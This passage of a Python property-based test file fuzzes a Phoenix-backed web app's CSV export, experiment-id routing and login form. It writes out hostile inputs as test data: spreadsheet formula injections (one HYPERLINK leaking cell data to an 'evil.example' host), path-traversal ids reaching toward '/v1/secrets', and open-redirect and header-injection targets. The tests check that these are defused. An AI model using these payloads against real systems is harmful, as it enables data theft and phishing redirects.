@example(role="viewer", page="analytics", kind="llm-calls", pairs=[])
@given(
    role=st.sampled_from(ROLES),
    page=st.one_of(
        st.sampled_from(["analytics", "traces", "home", "evaluations", "experiments"]),
        st.text(max_size=12),
    ),
    kind=st.one_of(st.sampled_from(sorted(EXPORTS)), st.text(max_size=12)),
    pairs=QUERY_PAIRS,
)
def test_export_answers_csv_or_a_clear_4xx(
    harness: Harness, role: str, page: str, kind: str, pairs: list[tuple[str, str]]
) -> None:
    CASES["export_endpoint"] += 1
    query = urlencode(pairs)
    url = f"/api/export/{quote(page, safe='')}/{quote(kind, safe='')}.csv" + (
        f"?{query}" if query else ""
    )
    harness.recorder.take()
    response = harness.clients[role].get(url)
    assert_sane(response)
    assert_client_requests_allowed(harness.recorder.take())
    if (page, kind, pairs) == ("analytics", "llm-calls", []):
        assert response.status_code == 200  # the seeded-formula check below must run
    with harness.app.server.test_request_context(url):
        routed = request.url_rule is not None and request.url_rule.endpoint == "export.export_csv"
    if not routed:
        # A page or table name with "/" (or an empty one) is not an export URL at all.
        return
    if response.status_code == 200:
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        disposition = response.headers["Content-Disposition"]
        assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._+-]+\.csv"', disposition)
        text = response.get_data().decode("utf-8")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert_defused(rows, kind)
        if kind == "llm-calls" and not pairs:
            # The seeded rows are in the default window: their formula text must come out defused.
            assert {'\'=HYPERLINK("http://evil")', "'+SUM(A1)", "'@cmd"} <= {
                cell for row in rows for cell in row
            }
        return
    assert 400 <= response.status_code < 500, response.status_code
    answer = response.get_json(silent=True)
    if isinstance(answer, dict):
        assert answer.get("message"), answer


EVIL_LINK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
HEADER_NAMES = st.one_of(
    st.sampled_from([EVIL_LINK, *HOSTILE_CELLS]),
    st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES), st.text(max_size=10)),
    st.text(max_size=10),
)
CELLS = st.one_of(
    st.text(),
    st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES), st.text()),
    st.none(),
    st.integers(),
    st.floats(),
    st.datetimes(timezones=st.one_of(st.none(), st.timezones())),
)


@budget("escape_cell")
@given(row=st.lists(CELLS, min_size=1, max_size=6), names=st.lists(HEADER_NAMES, max_size=6))
def test_exported_cells_never_start_a_formula(row: list[Any], names: list[str]) -> None:
    CASES["escape_cell"] += 1
    # Column names may come from Phoenix (evaluator names): escaped like any other cell.
    header = (names + [f"c{i}" for i in range(len(row))])[: len(row)]
    text = "".join(csv_chunks(header, [row]))
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == [escape_cell(name) for name in header] and len(parsed) == 2
    assert_defused(parsed[:1], "header")
    for value, cell in zip(row, parsed[1], strict=True):
        if isinstance(value, str):
            expected = "'" + value if value.startswith(FORMULA_PREFIXES) else value
            assert cell == expected == escape_cell(value)
        elif value is None or (isinstance(value, float) and math.isnan(value)):
            # Unknown is an empty cell, never "nan".
            assert cell == ""
        elif isinstance(value, datetime):
            assert datetime.fromisoformat(cell).tzinfo is not None
        else:
            # Numbers stay numbers: a negative one is data, not a formula.
            assert cell == str(value)


# 3b. Experiment ids from the URL, names from Phoenix ----------------------------------------------

DATASET_ID = "RGF0YXNldDox"
# Ids Phoenix may list: its own Relay ids, padded or not, and odd ones a hostile Phoenix could.
PHOENIX_IDS = (
    "RXhwZXJpbWVudDox",
    "RXhwZXJpbWVudDoxMA==",
    "a b;c",
    "ünï",
    "x/../../v1/users?y=#z",
    "%2e%2e",
)
# What a viewer may put in a=… and b=…: the listed ids, and ones that climb or add a query.
TYPED_IDS = st.one_of(
    st.sampled_from(PHOENIX_IDS),
    st.sampled_from(
        [
            "../users?x=",
            "../../v1/secrets?y=",
            "..",
            ".",
            "",
            "RXhwZXJpbWVudDox/../../users",
            "RXhwZXJpbWVudDox?x=",
            "RXhwZXJpbWVudDox#",
            " RXhwZXJpbWVudDox",
            "RXhwZXJpbWVudDoxMA%3D%3D",
            "a" * 3000,
        ]
    ),
    st.text(max_size=16),
)
# Evaluator names become header cells, and may collide with the table's own columns.
EVALUATOR_NAMES = st.lists(
    st.one_of(
        HEADER_NAMES,
        st.sampled_from(["input", "output", "error", "example_id", "output A", "exact_match"]),
    ),
    min_size=1,
    max_size=3,
    unique=True,
)
SURFACES = ("experiments", "experiment-deltas", "experiment-examples", "compare-callback")
UNLISTED = "is not among Phoenix's experiments"


def phoenix_catalog(
    listed: list[str], names: list[str], evaluators: list[str]
) -> dict[tuple[str, ...], Any]:
    """Answers of a Phoenix with one dataset of the listed experiments, each with two runs."""
    answers: dict[tuple[str, ...], Any] = {
        ("", "v1", "datasets"): {"data": [{"id": DATASET_ID, "name": names[0]}]},
        ("", "v1", "datasets", DATASET_ID, "experiments"): {
            "data": [{"id": i, "name": names[-1], "created_at": names[0]} for i in listed]
        },
    }
    for index, experiment_id in enumerate(listed):
        # Each experiment has its own evaluators, so some columns exist on one side only.
        own = evaluators[: 1 + index % len(evaluators)]
        answers[("", "v1", "experiments", experiment_id, "json")] = [
            {
                "example_id": f"ex-{n}",
                "input": {"q": names[0]},
                "output": names[-1],
                "error": names[0] if n else None,
                "latency_ms": 5.0 + n,
                "annotations": [
                    {"name": name, "score": (n + k) / 4, "label": names[-1]}
                    for k, name in enumerate(own)
                ],
            }
            for n in range(2)
        ]
    return answers


@budget("experiment_ids")
@example(
    role="viewer",
    surface="experiment-examples",
    listed=list(PHOENIX_IDS[:2]),
    a="../users?x=",
    b=PHOENIX_IDS[1],
    names=["support", "run"],
    evaluators=[EVIL_LINK],
)
@example(
    role="viewer",
    surface="experiment-examples",
    listed=list(PHOENIX_IDS[:2]),
    a=PHOENIX_IDS[0],
    b=PHOENIX_IDS[1],
    names=["support", "run"],
    evaluators=[EVIL_LINK, "input"],
)
@example(
    role="member",
    surface="compare-callback",
    listed=list(PHOENIX_IDS[:2]),
    a="../../v1/secrets?y=",
    b=PHOENIX_IDS[0],
    names=["support", "run"],
    evaluators=["exact_match"],
)
@given(
    role=st.sampled_from(ROLES),
    surface=st.sampled_from(SURFACES),
    listed=st.lists(st.sampled_from(PHOENIX_IDS), min_size=1, max_size=4, unique=True),
    a=TYPED_IDS,
    b=TYPED_IDS,
    names=st.lists(HEADER_NAMES, min_size=2, max_size=2),
    evaluators=EVALUATOR_NAMES,
)
def test_experiment_ids_reach_phoenix_only_when_listed_and_encoded(
    harness: Harness,
    role: str,
    surface: str,
    listed: list[str],
    a: str,
    b: str,
    names: list[str],
    evaluators: list[str],
) -> None:
    CASES["experiment_ids"] += 1
    harness.recorder.answers = phoenix_catalog(listed, names, evaluators)
    try:
        with harness.app.server.app_context():
            cache.clear()  # the experiments table and each experiment's runs are cached
        harness.recorder.take()
        client = harness.clients[role]
        if surface == "compare-callback":
            response = compare_callback(client, a, b)
        else:
            query = urlencode([("a", a), ("b", b)])
            response = client.get(f"/api/export/experiments/{surface}.csv?{query}")
        assert_sane(response)
        # Only the listing and the listed experiments' runs, each id one encoded segment.
        assert_client_requests_allowed(harness.recorder.take(), {DATASET_ID, *listed})
    finally:
        harness.recorder.answers = {}
    unlisted = bool(a and b) and not (a in listed and b in listed)
    if surface == "compare-callback":
        assert response.status_code == 200, response.get_data()[:500]
        shown = " ".join(strings_in(response.json))
        assert (UNLISTED in shown) == unlisted, shown[:500]
        return
    if surface == "experiments" or (a and b and not unlisted):
        assert response.status_code == 200, response.get_data()[:500]
        rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8"), newline="")))
        assert_defused(rows, surface)
        if surface == "experiment-examples" and EVIL_LINK in evaluators:
            assert f"'{EVIL_LINK} A" in rows[0], rows[0]
        return
    assert response.status_code == (404 if unlisted else 400), response.get_data()[:500]
    message = response.get_json()["message"]
    assert (UNLISTED in message) == unlisted, message


# 4. The login form -----------------------------------------------------------------------------

NEXT_TARGETS = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        [
            "/",
            "/analytics?range=24h",
            "//evil.example.com",
            "///evil.example.com",
            "/\\evil.example.com",
            "\\\\evil.example.com",
            "https://evil.example.com/",
            "http:evil.example.com",
            "javascript:alert(1)",
            "/\t/evil.example.com",
            "/\r\nLocation: https://evil.example.com",
            "/%2F%2Fevil.example.com",
            "/..//evil.example.com",
            " //evil.example.com",
            "/\u3000/evil.example.com",
            "/\u2028/x",
            "/ünïcode",
            "/\x00",
            "",
        ]
    ),
)
HUGE = st.sampled_from([1_000, 100_000, 600_000]).map(lambda n: "x" * n)
EMAILS = st.one_of(
    st.text(max_size=30),
    st.emails().map(str),
    st.sampled_from(
        [
            "viewer@example.com",
            " VIEWER@example.com ",
            "viewer@example.com\x00",
            "admin@example.com",
        ]
    ),
    HUGE,
)
PASSWORDS = st.one_of(
    st.just(PASSWORD),
    st.text(max_size=30),
    st.sampled_from([PASSWORD + " ", PASSWORD.upper(), "", "\x00" + PASSWORD, PASSWORD[:-1]]),
    HUGE,
)
ABSENT = object()


def _same_site(location: str) -> bool:
    parts = urlsplit(location)
    return (
        location.startswith("/")
        and not location.startswith(("//", "/\\"))
        and not parts.scheme
        and not parts.netloc
        and not any(ord(ch) < 32 or ch == "\\" for ch in location)
    )


@budget("login_form")
@example(
    email="viewer@example.com",
    password=PASSWORD,
    next_url="//evil.example.com",
    next_in_query=False,
    token_mode="keep",
    extra={},
)
@example(
    email=" VIEWER@example.com ",
    password=PASSWORD,
    next_url="/\\evil.example.com",
    next_in_query=True,
    token_mode="keep",
    extra={"remember": "1"},
)
@given(
    email=st.one_of(st.just(ABSENT), EMAILS),
    password=st.one_of(st.just(ABSENT), PASSWORDS),
    next_url=st.one_of(st.just(ABSENT), NEXT_TARGETS),
    next_in_query=st.booleans(),
    token_mode=st.sampled_from(["keep", "keep", "drop", "garbage"]),
    extra=st.dictionaries(
        st.text(max_size=10).filter(lambda k: k not in ("email", "password", "next", "csrf_token")),
        st.one_of(st.text(max_size=20), HUGE),
        max_size=3,
    ),
)
def test_login_never_fails_loudly_leaks_or_lets_a_wrong_password_in(
    harness: Harness,
    email: Any,
    password: Any,
    next_url: Any,
    next_in_query: bool,
    token_mode: str,
    extra: dict[str, str],
) -> None:
    CASES["login_form"] += 1
    client = harness.app.server.test_client()
    form: dict[str, str] = dict(extra)
    for name, value in (("email", email), ("password", password)):
        if value is not ABSENT:
            form[name] = value
    query = ""
    if next_url is not ABSENT:
        if next_in_query:
            query = "?" + urlencode({"next": next_url})
        else:
            form["next"] = next_url
    token = csrf_token(client)
    if token is not None and token_mode != "drop":
        form["csrf_token"] = token if token_mode == "keep" else "garbage"
    # A fresh address per example: the per-address limit must not lock the other examples out.
    address = f"10.{uuid.uuid4().int % 250}.{uuid.uuid4().int % 250}.{uuid.uuid4().int % 250}"
    response = client.post(f"/login{query}", data=form, environ_base={"REMOTE_ADDR": address})
    assert_sane(response)
    assert response.status_code in (200, 302, 400, 413), response.status_code
    if "Location" in response.headers:
        assert _same_site(response.headers["Location"]), response.headers["Location"]
    right = (
        isinstance(email, str)
        and users.normalize_email(email) in harness.user_emails
        and password == PASSWORD
    )
    if not right:
        assert response.status_code != 302 and not signed_in(client), (email, password)
    elif token_mode == "keep" and len(form.get("next", "")) + sum(map(len, extra.values())) < 1000:
        # The right password does sign in, unless wrong guesses before it paused the account.
        paused = "Too many failed sign-in attempts" in response.get_data(as_text=True)
        assert paused or (response.status_code == 302 and signed_in(client)), response.status_code


def main() -> None:
    """Print each property's example budget and the counts the last run recorded."""
    print(json.dumps({"budgets": BUDGETS, "total_budget": sum(BUDGETS.values())}, indent=2))
    if COUNTS_FILE.exists():
        print(COUNTS_FILE.read_text())


if __name__ == "__main__":
    main()
